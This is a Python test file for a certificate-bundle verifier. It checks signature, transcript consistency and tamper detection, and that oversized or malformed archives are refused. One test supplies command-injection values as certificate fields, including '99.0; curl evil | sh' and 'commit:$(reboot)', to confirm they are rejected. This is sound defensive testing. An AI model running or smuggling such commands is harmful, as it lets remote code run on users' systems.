"""`verify`: three verdicts apart, every member's tampering caught and named, and unsafe input refused."""

import base64
import gzip
import json
import zipfile
from collections.abc import Callable, Mapping
from io import BytesIO
from pathlib import Path

import msgspec
import pytest
from click.testing import CliRunner, Result
from fencepost.conformance.certificate import bundle as bundles
from fencepost.conformance.certificate.bundle import ENVELOPE, MEMBERS, SIGNED, Bundle, NotABundle, packed, read_bundle
from fencepost.conformance.certificate.certificate import Issue, as_page, certificate
from fencepost.conformance.certificate.envelope import PAYLOAD_TYPE, pre_authentication, seal, statement
from fencepost.conformance.certificate.keys import make_keys, read_public_key, read_signing_key
from fencepost.conformance.certificate.replaying import Transcript, TranscriptDiffers
from fencepost.conformance.certificate.verification import consistency, re_execution, signature, unsettled, written
from fencepost.conformance.commands import main
from fencepost.reports.model import report_from_json

ENFORCER = "library:fencepost.conformance.peers:EnforcerVault"

pytestmark = pytest.mark.xdist_group("certificate")


def _run(*arguments: str | Path) -> Result:
    return CliRunner().invoke(main, [str(one) for one in arguments], catch_exceptions=False)


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with a key pair, another pair, and a bundle."""
    made = tmp_path_factory.mktemp("verified")
    make_keys(made / "key")
    make_keys(made / "other")
    result = _run("certify", ENFORCER, "--out", made / "b.zip", "--key", made / "key", "--effort", "quick")
    assert result.exit_code == 0, result.output
    return made


def _members(folder: Path) -> dict[str, bytes]:
    return dict(read_bundle(folder / "b.zip").members)


def _signed_anew(members: Mapping[str, bytes], folder: Path) -> Bundle:
    """The bundle that a liar with the key makes of altered members: certificate, page and envelope fit them."""
    report = report_from_json(members["report.json"])
    told = json.loads(members["certificate.json"])
    issue = Issue(
        issued=told["issued"],
        suite_digest=told["suite"]["sha256"],
        catalogue_digest=told["catalogue"]["sha256"],
        environment=told["environment"],
        artifacts={},
        origin=told["suite"]["origin"],
    )
    told = certificate(report, issue)
    new = {**members, "certificate.json": written(told), "certificate.md": as_page(told, report).encode()}
    signed = {name: new[name] for name in SIGNED}
    return Bundle(members={**signed, ENVELOPE: seal(statement(signed, report, told), read_signing_key(folder / "key"))})


def _transcript_with(members: dict[str, bytes], change: Callable[[list[dict[str, object]]], None]) -> dict[str, bytes]:
    lines = [json.loads(line) for line in gzip.decompress(members["transcript.ndjson.gz"]).splitlines()]
    change(lines)
    text = b"".join(json.dumps(line).encode() + b"\n" for line in lines)
    return {**members, "transcript.ndjson.gz": gzip.compress(text, mtime=0)}


def test_a_whole_bundle_holds_and_what_was_not_asked_is_said(folder: Path) -> None:
    result = _run("verify", folder / "b.zip", "--key", folder / "key.pub")
    assert result.exit_code == 0
    for row in ("signature valid        holds", "transcript consistent  holds", "re-executed            not asked"):
        assert row in result.stdout
    assert "level      partial" in result.stdout
    assert "not asked" in result.stdout


def test_an_unpacked_bundle_is_a_bundle_too(folder: Path, tmp_path: Path) -> None:
    for name, content in _members(folder).items():
        (tmp_path / name).write_bytes(content)
    assert signature(read_bundle(tmp_path), read_public_key(folder / "key.pub")).holds


def test_a_subject_asked_again_comes_to_the_same(folder: Path) -> None:
    result = _run("verify", folder / "b.zip", "--key", folder / "key.pub", "--re-run", ENFORCER, "--json")
    assert result.exit_code == 0
    told = json.loads(result.stdout)
    assert [one["verdict"] for one in told["findings"]] == ["signature valid", "transcript consistent", "re-executed"]
    assert told["certified"]["effort"] == "quick"
    assert told["certified"]["key"] == read_public_key(folder / "key.pub").id
    seed = str(told["certified"]["seed"])
    assert seed not in told["findings"][2]["unchecked"][0], "the verifier's seed is another than the signer's"


def test_another_subject_does_not_stand_for_the_one_that_was_certified(folder: Path) -> None:
    subject = "library:fencepost.conformance.peers:MinimalVault2018"
    result = _run("verify", folder / "b.zip", "--key", folder / "key.pub", "--re-run", subject, "--json")
    signed, consistent, executed = json.loads(result.stdout)["findings"]
    assert result.exit_code == 1
    assert signed["holds"]
    assert consistent["holds"]
    assert any("the subject's name" in reason for reason in executed["against"])


def test_another_key_has_not_signed_it(folder: Path) -> None:
    found = signature(read_bundle(folder / "b.zip"), read_public_key(folder / "other.pub"))
    assert any(ENVELOPE in reason for reason in found.against)


def test_every_byte_of_the_envelope_counts(folder: Path) -> None:
    members, key = _members(folder), read_public_key(folder / "key.pub")
    for place in range(len(members[ENVELOPE])):
        content = bytearray(members[ENVELOPE])
        content[place] ^= 0x20
        assert not signature(Bundle(members={**members, ENVELOPE: bytes(content)}), key).holds, place


def test_every_byte_of_the_zip_around_the_members_counts(folder: Path, tmp_path: Path) -> None:
    data, key = (folder / "b.zip").read_bytes(), read_public_key(folder / "key.pub")
    members = _members(folder)
    inside = set()
    for content in members.values():
        start = data.index(content)
        inside |= set(range(start, start + len(content)))
    altered = tmp_path / "altered.zip"
    for place in range(len(data)):
        if place in inside:
            continue
        flipped = bytearray(data)
        flipped[place] ^= 0x01
        altered.write_bytes(flipped)
        try:
            found = signature(read_bundle(altered), key)
        except NotABundle:
            continue
        assert not found.holds, place


# -- a liar who has the key --------------------------------------------------------------------------------------------


def _one_answer_flipped(lines: list[dict[str, object]]) -> None:
    asks = [line for line in lines if line.get("m") == "decide" and len(set(str(line["o"]))) > 1]
    told = str(asks[3]["o"])
    asks[3]["o"] = told[:-1] + ("b" if told[-1] == "a" else "a")


def _one_refusal_made_up(lines: list[dict[str, object]]) -> None:
    puts = [line for line in lines if line.get("m") == "putRules"]
    puts[5]["a"] = {"accepted": False}


def _one_rule_changed(lines: list[dict[str, object]]) -> None:
    puts = [line for line in lines if line.get("m") == "putRules"]
    puts[5]["p"]["networkAcls"]["defaultAction"] = "Maybe"  # type: ignore[index]


def _one_call_left_out(lines: list[dict[str, object]]) -> None:
    del lines[10]


def _one_call_repeated(lines: list[dict[str, object]]) -> None:
    lines.insert(10, lines[10])


def _the_end_left_out(lines: list[dict[str, object]]) -> None:
    del lines[-1]


def _more_after_the_end(lines: list[dict[str, object]]) -> None:
    lines.append(lines[3])


def _a_miscounted_end(lines: list[dict[str, object]]) -> None:
    lines[-1]["calls"] = 7


def _another_version(lines: list[dict[str, object]]) -> None:
    lines[0]["version"] = 2


def _a_letter_without_meaning(lines: list[dict[str, object]]) -> None:
    next(line for line in lines if line.get("m") == "decide")["o"] = "z"


@pytest.mark.parametrize(
    "change",
    [
        _one_answer_flipped,
        _one_refusal_made_up,
        _one_rule_changed,
        _one_call_left_out,
        _one_call_repeated,
        _the_end_left_out,
        _more_after_the_end,
        _a_miscounted_end,
        _another_version,
        _a_letter_without_meaning,
    ],
)
def test_a_signed_transcript_that_does_not_lead_to_the_report_is_inconsistent(
    folder: Path, change: Callable[[list[dict[str, object]]], None]
) -> None:
    bundle = _signed_anew(_transcript_with(_members(folder), change), folder)
    assert signature(bundle, read_public_key(folder / "key.pub")).holds
    assert not consistency(bundle).holds


def test_a_signed_report_with_one_count_raised_is_inconsistent_and_the_clause_is_named(folder: Path) -> None:
    members = _members(folder)
    told = json.loads(members["report.json"])
    row = next(row for row in told["clauses"] if row["id"] == "DEC-3")
    row["decisive"] += 1
    text = json.dumps(told, indent=2).encode()
    found = consistency(_signed_anew({**members, "report.json": text}, folder))
    assert any("DEC-3: decisive" in reason for reason in found.against)


def test_a_signed_certificate_that_claims_another_level_is_inconsistent(folder: Path) -> None:
    members = _members(folder)
    told = json.loads(members["certificate.json"])
    told["level"] = "core+extended"
    report = report_from_json(members["report.json"])
    signed = {name: members[name] for name in SIGNED} | {"certificate.json": written(told)}
    envelope = seal(statement(signed, report, told), read_signing_key(folder / "key"))
    bundle = Bundle(members={**signed, ENVELOPE: envelope})
    assert signature(bundle, read_public_key(folder / "key.pub")).holds
    assert any("level" in reason for reason in consistency(bundle).against)


def test_a_transcript_that_is_cut_short_is_told_with_its_line(folder: Path) -> None:
    content = _members(folder)["transcript.ndjson.gz"]
    with pytest.raises(TranscriptDiffers) as differs:
        Transcript(content[:-40])
    assert differs.value.line > 100
    assert "cannot be unpacked" in str(differs.value)


# -- what is no bundle -------------------------------------------------------------------------------------------------


def _zip(members: list[tuple[str | zipfile.ZipInfo, bytes]], compression: int = zipfile.ZIP_STORED) -> bytes:
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, content in members:
            archive.writestr(name, content)
    return buffer.getvalue()


def _refused(tmp_path: Path, folder: Path, data: bytes) -> str:
    before = sorted(tmp_path.rglob("*"))
    (tmp_path / "x.zip").write_bytes(data)
    result = _run("verify", tmp_path / "x.zip", "--key", folder / "key.pub")
    assert result.exit_code == 2
    assert sorted(tmp_path.rglob("*")) == [*before, tmp_path / "x.zip"]
    return result.stderr


def test_a_compressed_member_is_refused_whatever_it_would_swell_to(tmp_path: Path, folder: Path) -> None:
    told = _refused(tmp_path, folder, _zip(list(_members(folder).items()), zipfile.ZIP_DEFLATED))
    assert "stored as is" in told


@pytest.mark.parametrize("share", [0.0, 0.2, 0.9, 0.999])
def test_a_zip_that_is_cut_short_is_refused(tmp_path: Path, folder: Path, share: float) -> None:
    data = packed(_members(folder))
    assert "not a bundle" in _refused(tmp_path, folder, data[: round(len(data) * share)])


def test_a_file_of_2_gb_is_refused_unread(tmp_path: Path, folder: Path) -> None:
    with (tmp_path / "large.zip").open("wb") as file:
        file.truncate(2 * 1024**3)
    result = _run("verify", tmp_path / "large.zip", "--key", folder / "key.pub")
    assert result.exit_code == 2
    assert "2,147,483,648 bytes" in result.stderr


def test_a_folder_that_is_too_large_is_refused_by_the_member(
    tmp_path: Path, folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name, content in _members(folder).items():
        (tmp_path / name).write_bytes(content)
    monkeypatch.setattr(bundles, "LARGEST", 1000)
    with pytest.raises(NotABundle) as refused:
        read_bundle(tmp_path)
    assert refused.value.place in MEMBERS


@pytest.mark.parametrize("version", ["99", 2])
def test_a_report_of_another_schema_version_is_told_as_such(folder: Path, version: object) -> None:
    members = _members(folder)
    told = {**json.loads(members["report.json"]), "schemaVersion": version}
    found = consistency(Bundle(members={**members, "report.json": json.dumps(told).encode()}))
    assert any(reason.startswith("report.json") for reason in found.against)


# -- what enemies write ------------------------------------------------------------------------------------------------


def _lying(folder: Path, change: Callable[[dict[str, object]], None]) -> tuple[str, ...]:
    """What is against a certificate that its signer has altered; all other members say the same."""
    members = _members(folder)
    told = json.loads(members["certificate.json"])
    change(told)
    report = report_from_json(members["report.json"])
    new = {name: members[name] for name in SIGNED} | {"certificate.json": written(told)}
    new["certificate.md"] = as_page(told, report).encode()
    envelope = seal(statement(new, report, told), read_signing_key(folder / "key"))
    return consistency(Bundle(members={**new, ENVELOPE: envelope})).against


def _set(part: str, name: str, value: object) -> Callable[[dict[str, object]], None]:
    def change(told: dict[str, object]) -> None:
        inner = told[part] if part else told
        assert isinstance(inner, dict)
        inner[name] = value

    return change


@pytest.mark.slow
@pytest.mark.parametrize(
    ("change", "reason"),
    [
        (_set("suite", "version", "99.0; curl evil | sh"), "is no version"),
        (_set("suite", "sha256", "0" * 64), "is installed here, and its digest is another"),
        (_set("catalogue", "sha256", "0" * 64), "is installed here, and its digest is another"),
        (_set("suite", "sha256", "zero"), "is no SHA-256 in hexadecimal digits"),
        (_set("suite", "origin", "commit:$(reboot)"), "is neither a commit nor a digest"),
        (_set("", "issued", "yesterday-ish"), "is no date and time in UTC that has passed"),
        (_set("", "issued", "2999-01-01T00:00:00+00:00"), "is no date and time in UTC that has passed"),
        (_set("asked", "seed", 7), "asked"),
        (_set("asked", "seedFrom", "luck"), "chooses no seed"),
        (_set("asked", "nonce", "another"), "the digest gives"),
    ],
)
def test_what_a_lying_signer_writes_is_checked_by_form_and_against_the_suite(
    folder: Path, change: Callable[[dict[str, object]], None], reason: str
) -> None:
    assert any(reason in one for one in _lying(folder, change))


def test_clauses_in_another_order_are_no_report_of_the_run(folder: Path) -> None:
    members = _members(folder)
    told = json.loads(members["report.json"])
    told["clauses"].reverse()
    text = json.dumps(told, indent=2).encode()
    found = consistency(_signed_anew({**members, "report.json": text}, folder))
    assert any("in another order" in reason for reason in found.against)


def test_what_the_bundle_cannot_prove_is_said(folder: Path) -> None:
    (first, *_) = consistency(read_bundle(folder / "b.zip")).unchecked
    assert "the signer's own words" in first


@pytest.mark.parametrize(
    "payload",
    [b"not JSON", b"", b"\xff\xfe", b"[" * 200_000, b'{"a": ' + b"1" * 5_000 + b"}", b'{"_type": "other"}', b"[]"],
    ids=["no JSON", "empty", "no UTF-8", "deep", "a long integer", "another type", "a list"],
)
def test_a_signed_payload_that_is_no_statement_is_no_valid_signature(folder: Path, payload: bytes) -> None:
    key = read_signing_key(folder / "key")
    signed = base64.b64encode(key.sign(pre_authentication(PAYLOAD_TYPE, payload))).decode()
    content = {"payloadType": PAYLOAD_TYPE, "payload": base64.b64encode(payload).decode()}
    envelope = json.dumps({**content, "signatures": [{"keyid": key.public.id, "sig": signed}]}, indent=2) + "\n"
    bundle = Bundle(members={**_members(folder), ENVELOPE: envelope.encode()})
    assert not signature(bundle, read_public_key(folder / "key.pub")).holds


def test_an_envelope_nested_200_000_deep_is_no_envelope(folder: Path) -> None:
    bundle = Bundle(members={**_members(folder), ENVELOPE: b"[" * 200_000})
    assert not signature(bundle, read_public_key(folder / "key.pub")).holds
    assert any(ENVELOPE in reason for reason in consistency(bundle).against)


def test_without_a_valid_signature_nothing_else_is_opened(folder: Path, tmp_path: Path) -> None:
    members = {**_members(folder), "transcript.ndjson.gz": b"\x00" * 4_000_000, "report.json": b"[" * 1_000_000}
    (tmp_path / "b.zip").write_bytes(packed(members))
    result = _run("verify", tmp_path / "b.zip", "--key", folder / "other.pub")
    assert result.exit_code == 1
    assert "not opened: without a valid signature nothing else is read" in result.stdout
    insisting = _run("verify", tmp_path / "b.zip", "--key", folder / "other.pub", "--unsigned")
    assert insisting.exit_code == 1
    assert "report.json" in insisting.stdout


def test_a_zip_whose_directory_is_huge_is_refused_before_it_is_read(folder: Path, tmp_path: Path) -> None:
    with zipfile.ZipFile(tmp_path / "b.zip", "w") as archive:
        for number in range(2_000):
            archive.writestr(f"{number:050}", b"")
    result = _run("verify", tmp_path / "b.zip", "--key", folder / "key.pub")
    assert result.exit_code == 2
    assert "a bundle has five members" in result.stderr


@pytest.mark.parametrize(
    ("options", "status"),
    [
        (("--require-level", "partial"), 0),
        (("--require-level", "core"), 1),
        (("--require-effort", "quick"), 0),
        (("--require-effort", "standard"), 1),
    ],
)
def test_a_level_and_an_effort_can_be_required(folder: Path, options: tuple[str, ...], status: int) -> None:
    assert _run("verify", folder / "b.zip", "--key", folder / "key.pub", *options).exit_code == status


def test_an_artifact_can_be_required(folder: Path, tmp_path: Path) -> None:
    (tmp_path / "other.bin").write_bytes(b"other")
    result = _run("verify", folder / "b.zip", "--key", folder / "key.pub", "--artifact", tmp_path / "other.bin")
    assert result.exit_code == 1
    assert "no artifact of the certificate has its SHA-256" in result.stdout


def test_a_clause_that_is_vacuous_at_one_seed_is_told_by_the_next(folder: Path) -> None:
    stated = report_from_json(_members(folder)["report.json"])
    row = next(row for row in stated.clauses if row.verdict == "pass")
    vacuous = tuple(
        msgspec.structs.replace(one, verdict="vacuous") if one.id == row.id else one for one in stated.clauses
    )
    empty = msgspec.structs.replace(stated, clauses=vacuous, exit_status=3)
    assert unsettled(stated, [empty]) == (row.id,)
    assert unsettled(stated, [empty, stated]) == ()
    assert re_execution(stated, [empty, stated]).holds
    (_, left) = re_execution(stated, [empty]).unchecked
    assert left.startswith(f"cannot say: {row.id}")
